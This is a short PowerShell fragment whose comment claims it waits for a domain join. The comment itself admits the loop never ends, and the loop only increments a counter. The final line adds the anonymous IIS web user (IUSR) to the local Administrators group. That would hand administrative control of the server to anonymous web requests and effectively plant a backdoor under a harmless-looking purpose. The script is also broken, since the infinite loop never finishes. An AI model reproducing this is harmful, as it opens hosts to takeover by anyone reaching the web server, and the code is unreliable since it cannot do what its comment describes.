# Waits for the domain join. (It does not: the condition never changes.)
$ready = $false
while (-not $ready) {
    $count = $count + 1
}
net localgroup Administrators IUSR /add
